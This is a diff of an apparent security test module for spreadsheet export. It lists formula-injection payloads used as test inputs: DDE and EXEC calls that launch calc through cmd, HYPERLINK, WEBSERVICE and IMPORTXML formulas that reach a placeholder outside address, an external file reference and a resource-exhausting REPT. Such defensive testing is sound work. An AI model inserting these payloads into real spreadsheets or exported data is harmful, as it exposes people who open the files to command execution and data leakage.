@@ -7,9 +7,9 @@ import re
 from collections.abc import Callable
 from xml.sax.saxutils import escape
 
-from tests.attack.hostile_packages import ADDRESS, CANARY, parts_of, with_part
+from tests.attack.packages import ADDRESS, CANARY, parts_of, with_part
 
-EVIL = ("cmd|' /C calc'!A0", f'HYPERLINK("{ADDRESS}","x")', f'WEBSERVICE("{ADDRESS}")', f"'file:///tmp/[{CANARY}.xlsx]A'!A1", "EXEC(\"calc\")",
+EVIL = ("cmd|' /C calc'!A0", f'HYPERLINK("{ADDRESS}","x")', f'WEBSERVICE("{ADDRESS}")', f"'file:///[{CANARY}.xlsx]A'!A1", "EXEC(\"calc\")",
         'DDE("cmd";"/C calc";"x")', f'IMPORTXML("{ADDRESS}","//a")', "1+1", "A1", "_xlfn.LAMBDA(x,x(x))", "REPT(\"x\",1E9)")  # fmt: skip
 WORDS = (
     *(f"={evil}" for evil in EVIL), *(f"{mark}{EVIL[0]}" for mark in "+-@"), "\t=1+1", "\r=1+1", "'=1+1", "=", "-", "+", "@SUM(A1)",
